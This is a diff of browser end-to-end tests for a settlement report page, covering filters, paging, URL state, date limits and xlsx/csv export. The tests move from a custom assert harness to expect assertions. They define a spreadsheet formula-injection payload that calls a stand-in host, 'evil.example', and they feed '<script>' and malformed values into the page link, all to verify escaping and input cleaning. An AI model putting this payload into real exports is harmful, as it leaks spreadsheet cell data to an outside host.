@@ -2,8 +2,17 @@
 // sorting, the URL query, and the .xlsx/.csv export of the whole range.
 import { readFileSync } from 'node:fs';
 import XLSX from 'xlsx';
-import { assert, test, until } from '../lib/harness.mjs';
-import { clearFaults, setFault, signIn } from '../lib/console.mjs';
+import { expect, test } from '../fixtures.mjs';
+import {
+  clearFaults,
+  pageButton,
+  pickOption,
+  pickerPreset,
+  setFault,
+  setLocale,
+  signIn,
+  tableRows,
+} from '../lib/console.mjs';
 
 const PATH = '/information/settlement';
 const AD_TYPES = {
@@ -15,15 +24,14 @@ const AD_TYPES = {
 };
 const HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"Open")';
 
-const bodyRows = (page) => page.locator('[data-testid=settlement-table] tbody tr.ant-table-row');
+const bodyRows = (page) => tableRows(page.getByTestId('settlement-table'));
 
 async function waitReady(page) {
   await page.locator('[data-testid=settlement-table][data-state=ready]').waitFor({ timeout: 20000 });
 }
 
 async function openReport(page, baseURL, search = '') {
-  await page.goto(`${baseURL}/user/login`);
-  await page.evaluate(() => localStorage.setItem('umi_locale', 'en-US'));
+  await setLocale(page, baseURL, 'en-US');
   await signIn(page, baseURL, 'demo', { redirect: `${PATH}${search}` });
   await waitReady(page);
 }
@@ -66,7 +74,7 @@ async function api(page, path, body) {
 async function cellTexts(page, column) {
   const headers = await page.locator('[data-testid=settlement-table] thead th').allTextContents();
   const index = headers.findIndex((h) => h.trim() === column);
-  assert.ok(index >= 0, `no column ${column} in ${headers.join('|')}`);
+  expect(index, `no column ${column} in ${headers.join('|')}`).toBeGreaterThanOrEqual(0);
   return bodyRows(page).evaluateAll((rows, i) => rows.map((r) => r.children[i].textContent.trim()), index);
 }
 
@@ -107,32 +115,35 @@ test('settlement: filters by app and ad type, grouped by day and ad position, wi
   baseURL,
 }) => {
   await openReport(page, baseURL);
-  assert.equal(await bodyRows(page).count(), 7);
-  const tags = await page.locator('[data-testid=settlement-table] [data-status]').allTextContents();
-  assert.deepEqual(tags, ['Estimated', 'Estimated', 'Estimated', 'Final', 'Final', 'Final', 'Final']);
+  await expect(bodyRows(page)).toHaveCount(7);
+  await expect(page.getByTestId('settlement-table').locator('[data-status]')).toHaveText([
+    'Estimated',
+    'Estimated',
+    'Estimated',
+    'Final',
+    'Final',
+    'Final',
+    'Final',
+  ]);
   await page.getByTestId('settlement-timezone').getByText('Time zone: Asia/Shanghai').waitFor();
   await page.getByTestId('settlement-currency').getByText('Currency: USD').waitFor();
 
-  await page.locator('#appIds').click();
-  await page.locator('#appIds').fill('Block Puzzle');
-  await page.keyboard.press('Enter');
+  await pickOption(page, page.getByLabel('Apps'), 'Block Puzzle Classic');
   await page.keyboard.press('Escape');
-  await page.locator('#adTypes').click();
-  await page.locator('#adTypes').fill('Banner');
-  await page.keyboard.press('Enter');
+  await pickOption(page, page.getByLabel('Ad types'), 'Banner');
   await page.keyboard.press('Escape');
   await page.getByRole('checkbox', { name: 'Ad position', exact: true }).check();
   // A draft until Query.
-  assert.equal(query(page).get('apps'), null);
+  expect(query(page).get('apps')).toBeNull();
   await page.getByRole('button', { name: 'Query' }).click();
-  await until(() => query(page).get('group') === 'day,adPosition', 'the grouping in the link');
+  await expect.poll(() => query(page).get('group'), { message: 'the grouping in the link' }).toBe('day,adPosition');
   await waitReady(page);
-  assert.equal(query(page).get('apps'), '1001');
-  assert.equal(query(page).get('types'), 'banner');
+  expect(query(page).get('apps')).toBe('1001');
+  expect(query(page).get('types')).toBe('banner');
   // One banner position of Block Puzzle Classic, one row per day.
-  assert.equal(await bodyRows(page).count(), 7);
-  assert.deepEqual(new Set(await cellTexts(page, 'App')), new Set(['Block Puzzle Classic']));
-  assert.deepEqual(new Set(await cellTexts(page, 'Ad type')), new Set(['Banner']));
+  await expect(bodyRows(page)).toHaveCount(7);
+  expect(new Set(await cellTexts(page, 'App'))).toEqual(new Set(['Block Puzzle Classic']));
+  expect(new Set(await cellTexts(page, 'Ad type'))).toEqual(new Set(['Banner']));
 
   const params = Object.fromEntries(query(page));
   const expected = await api(page, '/media/settlement/list', {
@@ -143,12 +154,9 @@ test('settlement: filters by app and ad type, grouped by day and ad position, wi
     groupBy: ['day', 'adPosition'],
   });
   const totals = page.getByTestId('settlement-totals');
-  assert.equal(money(await totals.locator('[data-metric=revenue]').textContent()), expected.result.totals.revenue);
-  assert.equal(money(await totals.locator('[data-metric=requests]').textContent()), expected.result.totals.requests);
-  assert.equal(
-    await totals.locator('[data-metric=ctr]').textContent(),
-    `${(expected.result.totals.ctr * 100).toFixed(2)}%`,
-  );
+  expect(money(await totals.locator('[data-metric=revenue]').textContent())).toBe(expected.result.totals.revenue);
+  expect(money(await totals.locator('[data-metric=requests]').textContent())).toBe(expected.result.totals.requests);
+  await expect(totals.locator('[data-metric=ctr]')).toHaveText(`${(expected.result.totals.ctr * 100).toFixed(2)}%`);
 });
 
 test('settlement: pages and sorts on the server; back and forward restore the report', async ({ page, baseURL }) => {
@@ -161,62 +169,59 @@ test('settlement: pages and sorts on the server; back and forward restore the re
       groupBy: ['adPosition'],
     })
   ).result.total;
-  assert.ok(total > 20, `several pages (${total} rows)`);
+  expect(total, `several pages (${total} rows)`).toBeGreaterThan(20);
   await page.getByText(`${total} in total`).waitFor();
   const rowsText = () => bodyRows(page).allTextContents();
 
-  await page.locator('thead th', { hasText: 'Revenue' }).click();
-  await until(
-    () => query(page).get('sort') === 'revenue' && query(page).get('order') === 'ascend',
-    'ascending revenue in the link',
-  );
+  const revenueHeader = page.getByRole('columnheader', { name: 'Revenue' });
+  await revenueHeader.click();
+  await expect
+    .poll(() => [query(page).get('sort'), query(page).get('order')], { message: 'ascending revenue in the link' })
+    .toEqual(['revenue', 'ascend']);
   await waitReady(page);
   const ascending = (await cellTexts(page, 'Revenue')).map(money);
-  assert.deepEqual(
-    ascending,
-    [...ascending].sort((a, b) => a - b),
-  );
+  expect(ascending).toEqual([...ascending].sort((a, b) => a - b));
   const ascendingRows = await rowsText();
-  await page.locator('thead th', { hasText: 'Revenue' }).click();
-  await until(() => query(page).get('order') === 'descend', 'descending revenue');
+  await revenueHeader.click();
+  await expect.poll(() => query(page).get('order'), { message: 'descending revenue' }).toBe('descend');
   await waitReady(page);
   const descending = (await cellTexts(page, 'Revenue')).map(money);
-  assert.deepEqual(
-    descending,
-    [...descending].sort((a, b) => b - a),
-  );
-  assert.ok(descending[9] >= ascending[9]);
+  expect(descending).toEqual([...descending].sort((a, b) => b - a));
+  expect(descending[9]).toBeGreaterThanOrEqual(ascending[9]);
   const firstPage = await rowsText();
 
   // The benchmark's contract: loading while the query runs, ready with its rows.
   await setFault(baseURL, { path: '/media/settlement/list', type: 'slow', delayMs: 1500, times: 1 });
-  await page.locator('.ant-pagination-item-2').click();
+  await pageButton(page, 2).click();
   await page.locator('[data-testid=settlement-table][data-state=loading]').waitFor();
   await waitReady(page);
   await clearFaults(baseURL);
-  assert.equal(query(page).get('page'), '2');
+  expect(query(page).get('page')).toBe('2');
   const secondPage = await rowsText();
-  assert.equal(secondPage.length, 10);
-  assert.ok(!secondPage.some((row) => firstPage.includes(row)), 'page 2 shows other rows');
-  assert.ok(money((await cellTexts(page, 'Revenue'))[0]) <= descending[9], 'page 2 continues the order');
+  expect(secondPage.length).toBe(10);
+  expect(
+    secondPage.some((row) => firstPage.includes(row)),
+    'page 2 shows other rows',
+  ).toBe(false);
+  expect(money((await cellTexts(page, 'Revenue'))[0]), 'page 2 continues the order').toBeLessThanOrEqual(descending[9]);
 
   await page.goBack();
-  await until(() => query(page).get('page') === null, 'back to page 1');
+  await expect.poll(() => query(page).get('page'), { message: 'back to page 1' }).toBeNull();
   await waitReady(page);
-  assert.deepEqual(await rowsText(), firstPage);
+  expect(await rowsText()).toEqual(firstPage);
   await page.goBack();
-  await until(() => query(page).get('order') === 'ascend', 'back to ascending');
+  await expect.poll(() => query(page).get('order'), { message: 'back to ascending' }).toBe('ascend');
   await waitReady(page);
-  assert.deepEqual(await rowsText(), ascendingRows);
+  expect(await rowsText()).toEqual(ascendingRows);
   await page.goForward();
-  await until(() => query(page).get('order') === 'descend', 'forward to descending');
+  await expect.poll(() => query(page).get('order'), { message: 'forward to descending' }).toBe('descend');
   await waitReady(page);
-  assert.deepEqual(await rowsText(), firstPage);
+  expect(await rowsText()).toEqual(firstPage);
   // The link opens the same report in another tab.
   const other = await page.context().newPage();
   await other.goto(page.url());
   await other.locator('[data-testid=settlement-table][data-state=ready]').waitFor({ timeout: 20000 });
-  assert.deepEqual(await bodyRows(other).allTextContents(), firstPage);
+  expect(await bodyRows(other).allTextContents()).toEqual(firstPage);
 });
 
 test('settlement: a period over one year is refused with a clear message; hostile link values are ignored', async ({
@@ -230,151 +235,156 @@ test('settlement: a period over one year is refused with a clear message; hostil
     '?apps=1001,1013,abc&types=banner,<script>&group=week&size=1000&sort=password&order=up&start=2020-02-30&end=x',
   );
   // 1013 belongs to another publisher, the rest is malformed: all dropped, and the link shows what applies.
-  await until(() => query(page).get('apps') === '1001' && query(page).get('types') === 'banner', 'a cleaned link');
-  assert.equal(query(page).get('size'), null);
-  assert.equal(query(page).get('sort'), null);
-  assert.equal(query(page).get('start'), addDays(today, -6));
+  await expect
+    .poll(() => [query(page).get('apps'), query(page).get('types')], { message: 'a cleaned link' })
+    .toEqual(['1001', 'banner']);
+  expect(query(page).get('size')).toBeNull();
+  expect(query(page).get('sort')).toBeNull();
+  expect(query(page).get('start')).toBe(addDays(today, -6));
 
   let calls = 0;
   page.on('request', (r) => r.url().endsWith('/media/settlement/list') && (calls += 1));
   const start = addDays(today, -400);
-  const inputs = page.locator('.ant-picker-range input');
-  await inputs.first().click();
-  await inputs.first().press('Control+a');
-  await inputs.first().pressSequentially(start);
+  // The range picker's two inputs: the start one carries the field's label, the end one its placeholder.
+  const from = page.getByRole('textbox', { name: 'Period' });
+  const to = page.getByRole('textbox', { name: 'End date' });
+  await from.click();
+  await from.press('Control+a');
+  await from.pressSequentially(start);
   await page.keyboard.press('Tab');
-  await inputs.nth(1).press('Control+a');
-  await inputs.nth(1).pressSequentially(today);
+  await to.press('Control+a');
+  await to.pressSequentially(today);
   await page.keyboard.press('Enter');
   await page.getByRole('button', { name: 'Query' }).click();
   await page.getByText('The period is 401 days long; choose at most 366 days (one year)').waitFor();
-  assert.equal(calls, 0);
-  assert.equal(query(page).get('start'), addDays(today, -6));
+  expect(calls).toBe(0);
+  expect(query(page).get('start')).toBe(addDays(today, -6));
 
   // The presets always give an allowed period.
-  await inputs.first().click();
-  await page.locator('.ant-picker-presets').getByText('Last month').click();
+  await from.click();
+  await pickerPreset(page, 'Last month').click();
   await page.getByRole('button', { name: 'Query' }).click();
   await waitReady(page);
   const [y, m] = today.split('-').map(Number);
   const firstOfLastMonth = new Date(Date.UTC(y, m - 2, 1)).toISOString().slice(0, 10);
-  await until(() => query(page).get('start') === firstOfLastMonth, 'last month in the link');
-  assert.equal(query(page).get('end'), addDays(`${today.slice(0, 7)}-01`, -1));
+  await expect.poll(() => query(page).get('start'), { message: 'last month in the link' }).toBe(firstOfLastMonth);
+  expect(query(page).get('end')).toBe(addDays(`${today.slice(0, 7)}-01`, -1));
 });
 
-test(
-  'settlement: exports the whole filtered range to xlsx and csv in a worker, escaping a hostile app name',
-  async ({ page, baseURL }) => {
-    const today = todayInShanghai();
-    const start = addDays(today, -29);
-    await openReport(page, baseURL, `?start=${start}&end=${today}&group=day,adPosition&apps=1001,1002,1007`);
-    const renamed = await api(page, '/media/app/update', { id: 1001, name: HOSTILE });
-    assert.equal(renamed.code, 0);
-    try {
-      await page.reload();
-      await waitReady(page);
-      const workers = [];
-      page.on('worker', (w) => workers.push(w.url()));
-      const warnings = [];
-      page.on('console', (m) => m.type() === 'warning' && warnings.push(m.text()));
+test('settlement: exports the whole filtered range to xlsx and csv in a worker, escaping a hostile app name', async ({
+  page,
+  baseURL,
+}) => {
+  test.setTimeout(120000);
+  const today = todayInShanghai();
+  const start = addDays(today, -29);
+  await openReport(page, baseURL, `?start=${start}&end=${today}&group=day,adPosition&apps=1001,1002,1007`);
+  const renamed = await api(page, '/media/app/update', { id: 1001, name: HOSTILE });
+  expect(renamed.code).toBe(0);
+  try {
+    await page.reload();
+    await waitReady(page);
+    const workers = [];
+    page.on('worker', (w) => workers.push(w.url()));
+    const warnings = [];
+    page.on('console', (m) => m.type() === 'warning' && warnings.push(m.text()));
 
-      const request = {
-        startDate: start,
-        endDate: today,
-        groupBy: ['day', 'adPosition'],
-        appIds: [1001, 1002, 1007],
-        adPositionIds: [],
-        adTypes: [],
-      };
-      const expected = (await api(page, '/media/settlement/export', request)).result;
-      assert.ok(expected.rows.length > 200, `a range of many pages (${expected.rows.length} rows)`);
-      const titles = expected.columns.map((c) => c.title);
+    const request = {
+      startDate: start,
+      endDate: today,
+      groupBy: ['day', 'adPosition'],
+      appIds: [1001, 1002, 1007],
+      adPositionIds: [],
+      adTypes: [],
+    };
+    const expected = (await api(page, '/media/settlement/export', request)).result;
+    expect(expected.rows.length, `a range of many pages (${expected.rows.length} rows)`).toBeGreaterThan(200);
+    const titles = expected.columns.map((c) => c.title);
 
-      for (const format of ['xlsx', 'csv']) {
-        await page.getByTestId('settlement-export').click();
-        const item = page.getByRole('menuitem', {
-          name: format === 'xlsx' ? 'Export Excel (.xlsx)' : 'Export CSV (.csv)',
-        });
-        const [download] = await Promise.all([page.waitForEvent('download', { timeout: 30000 }), item.click()]);
-        assert.equal(download.suggestedFilename(), `settlement_${start}_${today}.${format}`);
-        const file = await download.path();
-        const matrix =
-          format === 'xlsx'
-            ? XLSX.utils.sheet_to_json(XLSX.read(readFileSync(file)).Sheets.Settlement, {
-                header: 1,
-                blankrows: true,
-                defval: '',
-              })
-            : parseCsv(readFileSync(file, 'utf8').replace(/^\ufeff/, ''));
-        const cell = (v) => (format === 'csv' && v !== '' && !Number.isNaN(Number(v)) ? Number(v) : v);
-        const header = matrix.findIndex((line) => line[0] === 'Date');
-        assert.deepEqual(
-          matrix.slice(0, 6).map((l) => l[0]),
-          ['Settlement report', 'Period', 'Time zone', 'Currency', 'Generated at', 'Data updated at'],
-        );
-        assert.equal(matrix[1][1], `${start} – ${today}`);
-        assert.equal(matrix[2][1], 'Asia/Shanghai');
-        assert.equal(matrix[3][1], 'USD');
-        assert.deepEqual(matrix[header], titles);
-        const body = matrix.slice(header + 1, header + 1 + expected.rows.length);
-        assert.equal(body.length, expected.rows.length);
-        body.forEach((line, i) => {
-          const r = expected.rows[i];
-          const name = r.appName === HOSTILE ? `'${HOSTILE}` : r.appName;
-          const want = [
-            r.date,
-            r.status === 'final' ? 'Final' : 'Estimated',
-            name,
-            r.adPositionName,
-            AD_TYPES[r.adType],
-          ];
-          assert.deepEqual(line.slice(0, 5), want, `row ${i}`);
-          assert.deepEqual(
-            line.slice(5).map(cell),
-            [r.requests, r.fills, r.fillRate, r.impressions, r.showRate, r.clicks, r.ctr, r.ecpm, r.revenue],
-            `row ${i}`,
-          );
-        });
-        assert.ok(
-          body.some((line) => line[2] === `'${HOSTILE}`),
-          'the hostile name is in the file, escaped',
-        );
-        assert.ok(body.some((line) => line[2] === 'Tap & Match <b>Puzzle</b>'));
-        assert.ok(!matrix.flat().some((v) => typeof v === 'string' && /^[=+\-@]/.test(v)), 'no cell starts a formula');
-        const totals = matrix[header + 1 + expected.rows.length];
-        const t = expected.totals;
-        assert.deepEqual(totals.map(cell), [
-          'Total',
-          '',
-          '',
-          '',
-          '',
-          t.requests,
-          t.fills,
-          t.fillRate,
-          t.impressions,
-          t.showRate,
-          t.clicks,
-          t.ctr,
-          t.ecpm,
-          t.revenue,
+    for (const format of ['xlsx', 'csv']) {
+      await page.getByTestId('settlement-export').click();
+      const item = page.getByRole('menuitem', {
+        name: format === 'xlsx' ? 'Export Excel (.xlsx)' : 'Export CSV (.csv)',
+      });
+      const [download] = await Promise.all([page.waitForEvent('download', { timeout: 30000 }), item.click()]);
+      expect(download.suggestedFilename()).toBe(`settlement_${start}_${today}.${format}`);
+      const file = await download.path();
+      const matrix =
+        format === 'xlsx'
+          ? XLSX.utils.sheet_to_json(XLSX.read(readFileSync(file)).Sheets.Settlement, {
+              header: 1,
+              blankrows: true,
+              defval: '',
+            })
+          : parseCsv(readFileSync(file, 'utf8').replace(/^\ufeff/, ''));
+      const cell = (v) => (format === 'csv' && v !== '' && !Number.isNaN(Number(v)) ? Number(v) : v);
+      const header = matrix.findIndex((line) => line[0] === 'Date');
+      expect(matrix.slice(0, 6).map((l) => l[0])).toEqual([
+        'Settlement report',
+        'Period',
+        'Time zone',
+        'Currency',
+        'Generated at',
+        'Data updated at',
+      ]);
+      expect(matrix[1][1]).toBe(`${start} – ${today}`);
+      expect(matrix[2][1]).toBe('Asia/Shanghai');
+      expect(matrix[3][1]).toBe('USD');
+      expect(matrix[header]).toEqual(titles);
+      const body = matrix.slice(header + 1, header + 1 + expected.rows.length);
+      expect(body.length).toBe(expected.rows.length);
+      body.forEach((line, i) => {
+        const r = expected.rows[i];
+        const name = r.appName === HOSTILE ? `'${HOSTILE}` : r.appName;
+        const want = [r.date, r.status === 'final' ? 'Final' : 'Estimated', name, r.adPositionName, AD_TYPES[r.adType]];
+        expect(line.slice(0, 5), `row ${i}`).toEqual(want);
+        expect(line.slice(5).map(cell), `row ${i}`).toEqual([
+          r.requests,
+          r.fills,
+          r.fillRate,
+          r.impressions,
+          r.showRate,
+          r.clicks,
+          r.ctr,
+          r.ecpm,
+          r.revenue,
         ]);
-        await page
-          .getByText(`Exported ${expected.rows.length} rows to settlement_${start}_${today}.${format}`)
-          .waitFor();
-      }
-      assert.equal(
-        workers.filter((u) => /\/sheet\.worker\.[0-9a-f]+\.worker\.js$/.test(u)).length,
-        2,
-        `workers: ${workers.join(', ')}`,
-      );
-      assert.deepEqual(
-        warnings.filter((w) => w.includes('settlement export')),
-        [],
-      );
-    } finally {
-      await api(page, '/media/app/update', { id: 1001, name: 'Block Puzzle Classic' });
+      });
+      expect(
+        body.some((line) => line[2] === `'${HOSTILE}`),
+        'the hostile name is in the file, escaped',
+      ).toBe(true);
+      expect(body.some((line) => line[2] === 'Tap & Match <b>Puzzle</b>')).toBe(true);
+      expect(
+        matrix.flat().some((v) => typeof v === 'string' && /^[=+\-@]/.test(v)),
+        'no cell starts a formula',
+      ).toBe(false);
+      const totals = matrix[header + 1 + expected.rows.length];
+      const t = expected.totals;
+      expect(totals.map(cell)).toEqual([
+        'Total',
+        '',
+        '',
+        '',
+        '',
+        t.requests,
+        t.fills,
+        t.fillRate,
+        t.impressions,
+        t.showRate,
+        t.clicks,
+        t.ctr,
+        t.ecpm,
+        t.revenue,
+      ]);
+      await page.getByText(`Exported ${expected.rows.length} rows to settlement_${start}_${today}.${format}`).waitFor();
     }
-  },
-  { timeout: 120000 },
-);
+    expect(
+      workers.filter((u) => /\/sheet\.worker\.[0-9a-f]+\.worker\.js$/.test(u)).length,
+      `workers: ${workers.join(', ')}`,
+    ).toBe(2);
+    expect(warnings.filter((w) => w.includes('settlement export'))).toEqual([]);
+  } finally {
+    await api(page, '/media/app/update', { id: 1001, name: 'Block Puzzle Classic' });
+  }
+});
